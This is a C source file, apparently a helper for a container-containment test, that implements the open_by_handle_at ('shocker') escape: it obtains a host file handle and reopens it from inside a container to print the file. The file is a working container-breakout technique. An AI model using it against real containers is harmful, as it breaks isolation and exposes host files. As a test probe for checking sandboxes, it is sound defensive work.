/*
 * The open_by_handle_at attack (the "shocker" escape): `handle PATH` prints a file handle of PATH
 * (run on the host); `open MOUNTDIR TYPE HEX` opens that handle relative to a mount inside the
 * container and prints the file, or the errno name on failure. Built static by the containment test.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc == 3 && strcmp(argv[1], "handle") == 0) {
    struct file_handle *h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
    int mount_id;
    h->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, argv[2], h, &mount_id, 0) != 0) {
      perror("name_to_handle_at");
      return 1;
    }
    printf("%d ", h->handle_type);
    for (unsigned i = 0; i < h->handle_bytes; i++) printf("%02x", h->f_handle[i]);
    printf("\n");
    return 0;
  }
  if (argc == 5 && strcmp(argv[1], "open") == 0) {
    size_t n = strlen(argv[4]) / 2;
    struct file_handle *h = malloc(sizeof(*h) + n);
    h->handle_bytes = n;
    h->handle_type = atoi(argv[3]);
    for (size_t i = 0; i < n; i++) sscanf(argv[4] + 2 * i, "%2hhx", &h->f_handle[i]);
    int mfd = open(argv[2], O_RDONLY | O_DIRECTORY);
    if (mfd < 0) {
      printf("open-mount %s\n", strerrorname_np(errno));
      return 2;
    }
    int fd = open_by_handle_at(mfd, h, O_RDONLY);
    if (fd < 0) {
      printf("%s\n", strerrorname_np(errno));
      return 3;
    }
    char buf[4096];
    ssize_t r = read(fd, buf, sizeof buf);
    if (r > 0) fwrite(buf, 1, (size_t)r, stdout);
    return 0;
  }
  fprintf(stderr, "usage: handle PATH | open MOUNTDIR TYPE HEX\n");
  return 64;
}
